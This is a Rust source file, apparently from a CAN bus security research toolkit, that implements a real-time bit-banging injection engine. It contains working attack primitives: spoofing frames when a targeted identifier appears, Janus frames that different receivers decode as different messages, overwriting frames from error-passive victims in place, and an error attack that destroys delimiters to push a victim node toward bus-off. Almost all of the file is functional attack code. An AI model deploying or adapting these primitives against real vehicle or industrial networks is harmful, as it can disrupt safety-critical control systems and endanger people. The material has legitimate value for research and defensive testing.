//! The real-time bit engine and the attack primitives built on it.
//!
//! [`Injector`] owns the platform port, two encoded frame slots and a
//! watchdog counter, and exposes the transmit/attack operations:
//!
//! - [`send_frame`](Injector::send_frame): wait for bus idle or a start
//!   of frame, then bit-bang a frame with arbitration-loss detection and
//!   retries.
//! - [`send_janus_frame`](Injector::send_janus_frame): transmit two
//!   frames in one wire pattern by splitting every bit into a forced
//!   sync edge and two value phases.
//! - [`spoof_frame`](Injector::spoof_frame) /
//!   [`spoof_janus_frame`](Injector::spoof_janus_frame): wait for a
//!   targeted identifier, then transmit at the next arbitration window.
//! - [`spoof_frame_error_passive`](Injector::spoof_frame_error_passive):
//!   overwrite the targeted frame in place, past its identifier.
//! - [`error_attack`](Injector::error_attack): inject an active error
//!   flag after an identifier match, then repeatedly destroy delimiters.
//! - [`send_square_wave`](Injector::send_square_wave) /
//!   [`loopback`](Injector::loopback): timing calibration aids.
//!
//! # Real-time contract
//!
//! Every primitive is a hard busy loop that monopolises the CPU: no
//! sleeping, no yielding. Run with interrupts masked (or at a priority
//! that bounds preemption to a small fraction of the sample-to-bit-end
//! window) and, on flash-execution MCUs, place the code in RAM. All bit
//! I/O is scheduled by wrap-safe clock comparison, never by counted
//! spins, so branch-latency jitter does not accumulate.
//!
//! Each loop iteration ticks the watchdog down; at zero the primitive
//! releases TX and reports failure. [`Injector::set_timeout`] arms it
//! (in iterations, not wall-clock) and must be called before the first
//! primitive. [`Injector::stop`] zeroes it cooperatively.

use crate::frame::{EncodedFrame, FrameSpec};
use crate::platform::{advance, reached, Platform};
use crate::{Error, Result};

/// Rolling-register pattern for "ten recessive bits then anything":
/// matches both a fresh SOF (last sampled bit dominant) and continued
/// idle (last bit recessive).
const IDLE_SEEK_MASK: u32 = 0x7FE;

/// Frame slot selector. Slot [`Second`](FrameSlot::Second) is only used
/// as the alternate interpretation of a Janus transmission.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[cfg_attr(feature = "serde", derive(serde::Serialize, serde::Deserialize))]
#[cfg_attr(feature = "defmt", derive(defmt::Format))]
pub enum FrameSlot {
    /// Primary frame: the one transmitted, spoofed and matched against.
    First,
    /// Alternate frame for the Janus dual-interpretation transmit.
    Second,
}

/// Identifier-match template derived from frame 1.
///
/// `bitstream_match` always carries `0x3FF` — ten recessive bits — above
/// the frame prefix, so a match implies the bus was idle immediately
/// before the targeted frame started.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[cfg_attr(feature = "defmt", derive(defmt::Format))]
pub struct AttackMasks {
    /// Mask over the rolling 64-bit sample register.
    pub bitstream_mask: u64,
    /// Expected register value under the mask.
    pub bitstream_match: u64,
    /// Number of frame-1 bits folded into the template
    /// (`last_arbitration_bit + 2`).
    pub n_frame_match_bits: u32,
}

impl AttackMasks {
    fn derive(frame: &EncodedFrame) -> Self {
        let n_frame_match_bits = frame.last_arbitration_bit as u32 + 2;
        let bitstream_mask = (1u64 << (n_frame_match_bits + 10)) - 1;
        let mut bitstream_match = 0x3FFu64;
        for i in 0..n_frame_match_bits as usize {
            bitstream_match = (bitstream_match << 1) | frame.tx_bitstream[i] as u64;
        }
        Self {
            bitstream_mask,
            bitstream_match,
            n_frame_match_bits,
        }
    }
}

/// Result of one inner transmit loop.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum BitOutcome {
    /// Every bit went out and the bus agreed at each sample point.
    Sent,
    /// A sampled level contradicted the driven one: arbitration lost or
    /// a bit error. The caller may re-enter the SOF wait.
    Lost,
    /// The watchdog ran out.
    TimedOut,
}

/// Compare-then-decrement watchdog tick: expires when the counter reads
/// zero, otherwise consumes one iteration.
#[inline]
fn watchdog_tick(timeout: &mut u32) -> bool {
    if *timeout == 0 {
        true
    } else {
        *timeout -= 1;
        false
    }
}

/// Expands each of the low 16 template bits to four data-phase bits:
/// a set bit becomes `0b1111`, a clear bit `0b0000`. Used when a BRS
/// frame's trailer is sampled at the fast bit time, which yields four
/// samples per arbitration-phase bit.
fn expand_quad(template: u32) -> u64 {
    let mut out = 0u64;
    for i in 0..16 {
        if template & (1 << i) != 0 {
            out |= 0xF << (4 * i);
        }
    }
    out
}

/// The bit-level CAN injection engine.
///
/// Owns the TX/RX pins and the cycle counter through its [`Platform`]
/// for the duration of every primitive; frame buffers are written only
/// by [`set_frame`](Injector::set_frame) and read-only to the engine.
/// One instance per bus tap.
pub struct Injector<P: Platform> {
    platform: P,
    frame1: Option<EncodedFrame>,
    frame2: Option<EncodedFrame>,
    masks: Option<AttackMasks>,
    timeout: u32,
}

impl<P: Platform> Injector<P> {
    /// Wraps a platform port. The watchdog starts at zero: call
    /// [`set_timeout`](Self::set_timeout) before the first primitive.
    pub fn new(platform: P) -> Self {
        Self {
            platform,
            frame1: None,
            frame2: None,
            masks: None,
            timeout: 0,
        }
    }

    /// Clears both frame slots and the derived attack masks.
    pub fn init(&mut self) {
        self.frame1 = None;
        self.frame2 = None;
        self.masks = None;
    }

    /// Arms the watchdog with a loop-iteration budget for the next
    /// primitive. The budget is consumed across SOF waits, transmission
    /// and retries alike, bounding the primitive's duration.
    pub fn set_timeout(&mut self, timeout: u32) {
        self.timeout = timeout;
    }

    /// Cooperatively stops the current operation by zeroing the
    /// watchdog; the next loop iteration releases TX and returns
    /// failure.
    pub fn stop(&mut self) {
        self.timeout = 0;
    }

    /// Encodes a descriptor into a frame slot. Loading slot
    /// [`First`](FrameSlot::First) invalidates previously derived attack
    /// masks.
    pub fn set_frame(&mut self, slot: FrameSlot, spec: &FrameSpec) -> Result<()> {
        let frame = EncodedFrame::encode(spec)?;
        match slot {
            FrameSlot::First => {
                self.frame1 = Some(frame);
                self.masks = None;
            }
            FrameSlot::Second => self.frame2 = Some(frame),
        }
        Ok(())
    }

    /// The encoded frame in a slot, if one has been loaded.
    pub fn frame(&self, slot: FrameSlot) -> Option<&EncodedFrame> {
        match slot {
            FrameSlot::First => self.frame1.as_ref(),
            FrameSlot::Second => self.frame2.as_ref(),
        }
    }

    /// Derives the identifier-match template from frame 1. Idempotent.
    pub fn set_attack_masks(&mut self) -> Result<()> {
        let frame = self.frame1.as_ref().ok_or(Error::FrameNotSet)?;
        self.masks = Some(AttackMasks::derive(frame));
        Ok(())
    }

    /// The currently derived attack masks, if any.
    pub fn attack_masks(&self) -> Option<AttackMasks> {
        self.masks
    }

    /// Shared access to the platform port.
    pub fn platform(&self) -> &P {
        &self.platform
    }

    /// Exclusive access to the platform port.
    pub fn platform_mut(&mut self) -> &mut P {
        &mut self.platform
    }

    /// Consumes the engine and returns the platform port.
    pub fn into_platform(self) -> P {
        self.platform
    }

    /// Transmits the frame in `slot`, retrying up to `retries` times on
    /// arbitration loss or bit error.
    ///
    /// The engine first integrates with the bus: it samples RX once per
    /// bit, re-synchronising its clock on every recessive-to-dominant
    /// edge, until it has seen ten recessive bits followed by either a
    /// dominant bit (another node's SOF — transmission starts at our bit
    /// 1, riding that SOF) or an eleventh recessive bit (idle —
    /// transmission starts at bit 0 with our own SOF).
    ///
    /// Returns true once every bit including EOF and IFS has gone out
    /// with the bus agreeing at each sample point.
    pub fn send_frame(&mut self, mut retries: u32, slot: FrameSlot) -> bool {
        let frame = match slot {
            FrameSlot::First => self.frame1.as_ref(),
            FrameSlot::Second => self.frame2.as_ref(),
        };
        let Some(frame) = frame else { return false };
        let p = &mut self.platform;
        let timeout = &mut self.timeout;

        let mut prev_rx = false;
        let mut bitstream: u32 = 0;
        p.reset_clock(0);
        let mut sample_point = P::SAMPLE_POINT_OFFSET;

        loop {
            let rx = p.get_rx();
            let now = p.now();

            if prev_rx && !rx {
                p.reset_clock(0);
                sample_point = P::SAMPLE_POINT_OFFSET;
            } else if reached(now, sample_point) {
                let bit_end = advance(sample_point, P::SAMPLE_TO_BIT_END);
                sample_point = advance(now, P::BIT_TIME);

                bitstream = (bitstream << 1) | rx as u32;
                if bitstream & IDLE_SEEK_MASK == IDLE_SEEK_MASK {
                    // Skip our SOF bit when one is already on the bus
                    let tx_index = (rx as usize) ^ 1;
                    match send_bits(p, timeout, frame, bit_end, sample_point, tx_index) {
                        BitOutcome::Sent => return true,
                        BitOutcome::TimedOut => return false,
                        BitOutcome::Lost => {
                            if retries == 0 {
                                return false;
                            }
                            retries -= 1;
                            // Re-observe a full EOF+IFS before the next try
                            bitstream = 0;
                        }
                    }
                }
            }
            prev_rx = rx;
            if watchdog_tick(timeout) {
                p.set_tx_recessive();
                return false;
            }
        }
    }

    /// Transmits frames 1 and 2 as one Janus wire pattern.
    ///
    /// Every bit period is split in three: a dominant sync phase of
    /// `sync_time` cycles that forces receivers whose previous sample was
    /// recessive to re-synchronise, the frame-1 level until `split_time`
    /// cycles into the bit, then the frame-2 level until the bit ends.
    /// Receivers sampling inside the middle window decode frame 1; later
    /// samplers decode frame 2. `sync_time_fd`/`split_time_fd` take over
    /// while frame 1's data phase runs at the fast bit time.
    ///
    /// Arbitration is checked against the frame-1 phase: a dominant bus
    /// while frame 1 drives recessive aborts the attempt.
    pub fn send_janus_frame(
        &mut self,
        sync_time: u32,
        split_time: u32,
        sync_time_fd: u32,
        split_time_fd: u32,
        mut retries: u32,
    ) -> bool {
        let (Some(frame1), Some(frame2)) = (self.frame1.as_ref(), self.frame2.as_ref()) else {
            return false;
        };
        let p = &mut self.platform;
        let timeout = &mut self.timeout;

        let mut prev_rx = false;
        let mut bitstream: u32 = 0;
        p.reset_clock(0);
        let now = p.now();
        let mut sample_point = advance(now, P::SAMPLE_POINT_OFFSET);

        loop {
            let rx = p.get_rx();
            let now = p.now();

            if prev_rx && !rx {
                p.reset_clock(0);
                sample_point = P::SAMPLE_POINT_OFFSET;
            } else if reached(now, sample_point) {
                bitstream = (bitstream << 1) | rx as u32;
                let bit_end = advance(sample_point, P::SAMPLE_TO_BIT_END);
                sample_point = advance(sample_point, P::BIT_TIME);
                if bitstream & IDLE_SEEK_MASK == IDLE_SEEK_MASK {
                    let tx_index = (rx as usize) ^ 1;
                    match send_janus_bits(
                        p,
                        timeout,
                        frame1,
                        frame2,
                        bit_end,
                        sync_time,
                        split_time,
                        sync_time_fd,
                        split_time_fd,
                        tx_index,
                    ) {
                        BitOutcome::Sent => return true,
                        BitOutcome::TimedOut => return false,
                        BitOutcome::Lost => {
                            if retries == 0 {
                                return false;
                            }
                            retries -= 1;
                            bitstream = 0;
                        }
                    }
                }
            }
            prev_rx = rx;
            if watchdog_tick(timeout) {
                p.set_tx_recessive();
                return false;
            }
        }
    }

    /// Waits for the targeted identifier (per the derived
    /// [`AttackMasks`]) on the bus, then transmits frame 1 at the next
    /// arbitration window. Returns false if the masks are not set, the
    /// identifier never matched, or the transmit failed.
    pub fn spoof_frame(&mut self, retries: u32) -> bool {
        let Some(masks) = self.masks else { return false };
        {
            let p = &mut self.platform;
            let timeout = &mut self.timeout;
            if wait_for_match::<P>(p, timeout, masks.bitstream_mask, masks.bitstream_match, 0)
                .is_none()
            {
                return false;
            }
        }
        self.send_frame(retries, FrameSlot::First)
    }

    /// Waits for the targeted identifier, then transmits the Janus pair
    /// at the next arbitration window.
    pub fn spoof_janus_frame(
        &mut self,
        sync_time: u32,
        split_time: u32,
        sync_time_fd: u32,
        split_time_fd: u32,
        retries: u32,
    ) -> bool {
        let Some(masks) = self.masks else { return false };
        {
            let p = &mut self.platform;
            let timeout = &mut self.timeout;
            if wait_for_match::<P>(p, timeout, masks.bitstream_mask, masks.bitstream_match, 0)
                .is_none()
            {
                return false;
            }
        }
        self.send_janus_frame(sync_time, split_time, sync_time_fd, split_time_fd, retries)
    }

    /// Waits for the targeted identifier, then overwrites the rest of
    /// the victim frame in place with frame 1's bits, starting right
    /// after the matched prefix.
    ///
    /// Works against an error-passive victim, which cannot assert an
    /// active error flag over the overwrite. `loopback_offset` pulls the
    /// drive and sample schedule back by the platform's TX-to-RX
    /// loopback latency so the driven bits line up with the contested
    /// bus.
    pub fn spoof_frame_error_passive(&mut self, loopback_offset: u32) -> bool {
        let Some(masks) = self.masks else { return false };
        let Some(frame) = self.frame1.as_ref() else { return false };
        let p = &mut self.platform;
        let timeout = &mut self.timeout;

        let Some((bit_end, sample_point)) = wait_for_match::<P>(
            p,
            timeout,
            masks.bitstream_mask,
            masks.bitstream_match,
            0,
        ) else {
            return false;
        };

        let outcome = send_bits(
            p,
            timeout,
            frame,
            bit_end.wrapping_sub(loopback_offset),
            sample_point.wrapping_sub(loopback_offset),
            masks.n_frame_match_bits as usize,
        );
        outcome == BitOutcome::Sent
    }

    /// Waits for the targeted identifier, optionally injects a six-bit
    /// active error flag, then `repeat` times waits for the
    /// caller-supplied delimiter template and drives seven dominant bit
    /// times over it.
    ///
    /// `eof_mask`/`eof_match` select the sampled pattern to destroy —
    /// typically the end of the error delimiter or EOF, e.g. mask `0xFF`
    /// match `0x7F` for "a dominant bit then seven recessive". When
    /// frame 1 switches bit rate, the trailer is sampled at the fast bit
    /// time, so each template bit is widened to four fast-bit samples;
    /// templates may then use at most 16 bits.
    ///
    /// The seven-bit dominant pulse overwhelms the delimiter even when
    /// every other node is error-passive, forcing error handling (and
    /// eventually bus-off escalation) on the victim.
    pub fn error_attack(
        &mut self,
        repeat: u32,
        inject_error: bool,
        eof_mask: u32,
        eof_match: u32,
    ) -> bool {
        let Some(masks) = self.masks else { return false };
        let brs = match self.frame1.as_ref() {
            Some(frame) => frame.brs,
            None => return false,
        };
        let p = &mut self.platform;
        let timeout = &mut self.timeout;

        // The trailer of a BRS frame runs at the fast bit time: sample
        // it four times per nominal bit and widen the template to match.
        let (eof_mask, eof_match, sample_offset, bit_time, sample_to_bit_end) = if brs {
            (
                expand_quad(eof_mask),
                expand_quad(eof_match),
                P::SAMPLE_POINT_OFFSET_FD,
                P::BIT_TIME_FD,
                P::SAMPLE_TO_BIT_END_FD,
            )
        } else {
            (
                eof_mask as u64,
                eof_match as u64,
                P::SAMPLE_POINT_OFFSET,
                P::BIT_TIME,
                P::SAMPLE_TO_BIT_END,
            )
        };

        let Some((mut bit_end, mut sample_point)) = wait_for_match::<P>(
            p,
            timeout,
            masks.bitstream_mask,
            masks.bitstream_match,
            P::FALLING_EDGE_RECALIBRATE,
        ) else {
            return false;
        };

        // Active error flag: six dominant bit times from the next bit
        // boundary
        if inject_error {
            loop {
                let now = p.now();
                if reached(now, bit_end) {
                    p.set_tx_dominant();
                    break;
                }
                if watchdog_tick(timeout) {
                    p.set_tx_recessive();
                    return false;
                }
            }
            bit_end = advance(bit_end, P::BIT_TIME * 6);
            sample_point = advance(sample_point, P::BIT_TIME * 6);
            loop {
                let now = p.now();
                if reached(now, bit_end) {
                    p.set_tx_recessive();
                    break;
                }
                if watchdog_tick(timeout) {
                    p.set_tx_recessive();
                    return false;
                }
            }
        }

        let mut prev_rx = false;
        let mut register: u64 = 0;
        for _ in 0..repeat {
            loop {
                let now = p.now();
                let rx = p.get_rx();
                if prev_rx && !rx {
                    p.reset_clock(P::FALLING_EDGE_RECALIBRATE);
                    sample_point = sample_offset;
                } else if reached(now, sample_point) {
                    register = (register << 1) | rx as u64;
                    bit_end = advance(sample_point, sample_to_bit_end);
                    sample_point = advance(sample_point, bit_time);
                    if register & eof_mask == eof_match {
                        // Seven dominant bit times flatten the delimiter
                        loop {
                            let now = p.now();
                            if reached(now, bit_end) {
                                p.set_tx_dominant();
                                bit_end = advance(bit_end, P::BIT_TIME * 7);
                                sample_point = advance(sample_point, P::BIT_TIME * 7);
                                // Pseudo-sample our own dominant drive
                                register <<= 7;
                                break;
                            }
                            if watchdog_tick(timeout) {
                                p.set_tx_recessive();
                                return false;
                            }
                        }
                        loop {
                            let now = p.now();
                            if reached(now, bit_end) {
                                p.set_tx_recessive();
                                break;
                            }
                            if watchdog_tick(timeout) {
                                p.set_tx_recessive();
                                return false;
                            }
                        }
                        break;
                    }
                }
                prev_rx = rx;
                if watchdog_tick(timeout) {
                    p.set_tx_recessive();
                    return false;
                }
            }
        }
        true
    }

    /// Toggles TX at the arbitration bit time for 160 bit periods.
    /// A scope on the TX pin directly reads the achieved bit rate.
    pub fn send_square_wave(&mut self) -> bool {
        let p = &mut self.platform;
        let timeout = &mut self.timeout;

        p.reset_clock(0);
        let mut bit_end = P::BIT_TIME;
        let mut tx = false;
        let mut periods = 160u32;

        loop {
            let now = p.now();
            if reached(now, bit_end) {
                p.set_tx(tx);
                bit_end = advance(now, P::BIT_TIME);
                tx = !tx;
                periods -= 1;
                if periods == 0 {
                    p.set_tx_recessive();
                    return true;
                }
            }
            if watchdog_tick(timeout) {
                p.set_tx_recessive();
                return false;
            }
        }
    }

    /// Mirrors RX onto the debug pin for 160 bit periods (700 with `fd`,
    /// long enough for a full non-BRS FD frame), starting at the next
    /// falling edge. Lets a logic analyzer on the debug pin see exactly
    /// what the engine sees.
    pub fn loopback(&mut self, fd: bool) -> bool {
        let p = &mut self.platform;
        let timeout = &mut self.timeout;

        let mut rx = false;
        loop {
            let prev_rx = rx;
            rx = p.get_rx();
            if prev_rx && !rx {
                break;
            }
            if watchdog_tick(timeout) {
                p.set_tx_recessive();
                return false;
            }
        }

        let mut remaining: u32 = if fd { 700 } else { 160 };
        let mut bit_end = P::BIT_TIME;
        p.reset_clock(0);
        while remaining > 0 {
            let level = p.get_rx();
            p.set_debug(level);
            let now = p.now();
            if reached(now, bit_end) {
                bit_end = advance(now, P::BIT_TIME);
                remaining -= 1;
            }
            if watchdog_tick(timeout) {
                p.set_tx_recessive();
                return false;
            }
        }
        p.set_tx_recessive();
        true
    }
}

/// Inner transmit loop: drives `frame` from `tx_index` with the given
/// bit-boundary and sample schedules, handling the FD bit-rate switch
/// and switch-back.
fn send_bits<P: Platform>(
    p: &mut P,
    timeout: &mut u32,
    frame: &EncodedFrame,
    mut bit_end: u32,
    mut sample_point: u32,
    mut tx_index: usize,
) -> BitOutcome {
    let mut tx = frame.tx_bitstream[tx_index];
    tx_index += 1;
    let mut cur_tx = tx;
    let mut cur_bit_time = P::BIT_TIME;

    loop {
        let now = p.now();

        // The bit boundary is scanned first: the drive must land as
        // close to the boundary as possible.
        if reached(now, bit_end) {
            p.set_tx(tx);
            bit_end = advance(bit_end, cur_bit_time);

            if frame.fd {
                // Rate switch takes effect from the sample point of a
                // recessive BRS bit
                if tx_index == frame.brs_bit + 1 && tx {
                    cur_bit_time = P::BIT_TIME_FD;
                    bit_end = bit_end.wrapping_sub(P::SAMPLE_TO_BIT_END_FD);
                    sample_point = bit_end.wrapping_sub(P::SAMPLE_TO_BIT_END_FD);
                }
                // Back to the nominal rate at the CRC delimiter
                if tx_index == frame.last_crc_bit + 2 {
                    cur_bit_time = P::BIT_TIME;
                    bit_end = bit_end
                        .wrapping_sub(P::SAMPLE_TO_BIT_END_FD)
                        .wrapping_add(P::SAMPLE_TO_BIT_END);
                    sample_point = bit_end.wrapping_sub(P::SAMPLE_TO_BIT_END);
                }
            }

            // Fetch the next bit after the time-critical drive
            cur_tx = tx;
            tx = frame.tx_bitstream[tx_index];
            tx_index += 1;

            if tx_index >= frame.last_eof_bit + 3 {
                p.set_tx_recessive();
                return BitOutcome::Sent;
            }
        }

        if reached(now, sample_point) {
            let rx = p.get_rx();
            if rx != cur_tx {
                p.set_tx_recessive();
                return BitOutcome::Lost;
            }
            sample_point = advance(sample_point, cur_bit_time);
        }

        if watchdog_tick(timeout) {
            p.set_tx_recessive();
            return BitOutcome::TimedOut;
        }
    }
}

/// Inner Janus loop: every bit is a forced dominant sync edge, then the
/// frame-1 level from `sync_end`, then the frame-2 level from
/// `split_end`. The bus is sampled at `split_end`, just before the
/// frame-2 drive, and checked against the frame-1 level.
#[allow(clippy::too_many_arguments)]
fn send_janus_bits<P: Platform>(
    p: &mut P,
    timeout: &mut u32,
    frame1: &EncodedFrame,
    frame2: &EncodedFrame,
    mut bit_end: u32,
    sync_time: u32,
    split_time: u32,
    sync_time_fd: u32,
    split_time_fd: u32,
    mut tx_index: usize,
) -> BitOutcome {
    let tx_bits = frame1.tx_bits.max(frame2.tx_bits);
    let mut cur_bit_time = P::BIT_TIME;
    let mut sync_end = advance(bit_end, sync_time);
    let mut split_end = advance(bit_end, split_time);
    let mut tx1;
    let mut tx2;

    loop {
        // Phase 1: dominant edge forces a resync in any receiver whose
        // previous sample was recessive
        loop {
            let now = p.now();
            if reached(now, bit_end) {
                p.set_tx_dominant();
                tx1 = frame1.tx_bitstream[tx_index];
                bit_end = advance(bit_end, cur_bit_time);
                break;
            }
            if watchdog_tick(timeout) {
                p.set_tx_recessive();
                return BitOutcome::TimedOut;
            }
        }

        // Phase 2: frame-1 level
        loop {
            let now = p.now();
            if reached(now, sync_end) {
                p.set_tx(tx1);
                tx2 = frame2.tx_bitstream[tx_index];
                tx_index += 1;
                if tx_index >= tx_bits {
                    p.set_tx_recessive();
                    return BitOutcome::Sent;
                }
                sync_end = advance(sync_end, cur_bit_time);
                if frame1.fd {
                    if tx_index == frame1.brs_bit + 1 && tx1 {
                        cur_bit_time = P::BIT_TIME_FD;
                        bit_end = bit_end.wrapping_sub(P::SAMPLE_TO_BIT_END_FD);
                        sync_end = advance(bit_end, sync_time_fd);
                    }
                    if tx_index == frame1.last_crc_bit + 2 {
                        cur_bit_time = P::BIT_TIME;
                        bit_end = bit_end
                            .wrapping_sub(P::SAMPLE_TO_BIT_END_FD)
                            .wrapping_add(P::SAMPLE_TO_BIT_END);
                        sync_end = advance(bit_end, sync_time);
                    }
                }
                break;
            }
            if watchdog_tick(timeout) {
                p.set_tx_recessive();
                return BitOutcome::TimedOut;
            }
        }

        // Phase 3: sample against frame 1, then drive the frame-2 level
        loop {
            let now = p.now();
            if reached(now, split_end) {
                let rx = p.get_rx();
                p.set_tx(tx2);
                split_end = advance(split_end, cur_bit_time);
                if frame2.fd {
                    if tx_index == frame2.brs_bit + 1 && tx2 {
                        split_end = advance(bit_end, split_time_fd);
                    }
                    if tx_index == frame2.last_crc_bit + 2 {
                        split_end = advance(bit_end, split_time);
                    }
                }
                if rx != tx1 {
                    p.set_tx_recessive();
                    return BitOutcome::Lost;
                }
                break;
            }
            if watchdog_tick(timeout) {
                p.set_tx_recessive();
                return BitOutcome::TimedOut;
            }
        }
    }
}

/// Bus-integration wait shared by the targeted attacks: samples the bus
/// into a rolling 64-bit register, re-synchronising on falling edges
/// (loading `recalibrate` to compensate detection latency), until the
/// register matches the template. Returns the bit-end and next-sample
/// instants of the matching bit, or `None` on watchdog expiry.
fn wait_for_match<P: Platform>(
    p: &mut P,
    timeout: &mut u32,
    mask: u64,
    template: u64,
    recalibrate: u32,
) -> Option<(u32, u32)> {
    let mut prev_rx = true;
    let mut register: u64 = 0;
    p.reset_clock(0);
    let mut sample_point = P::SAMPLE_POINT_OFFSET;

    loop {
        let rx = p.get_rx();
        let now = p.now();

        if prev_rx && !rx {
            p.reset_clock(recalibrate);
            sample_point = P::SAMPLE_POINT_OFFSET;
        } else if reached(now, sample_point) {
            let bit_end = advance(sample_point, P::SAMPLE_TO_BIT_END);
            sample_point = advance(sample_point, P::BIT_TIME);
            register = (register << 1) | rx as u64;
            if register & mask == template {
                return Some((bit_end, sample_point));
            }
        }
        prev_rx = rx;
        if watchdog_tick(timeout) {
            p.set_tx_recessive();
            return None;
        }
    }
}
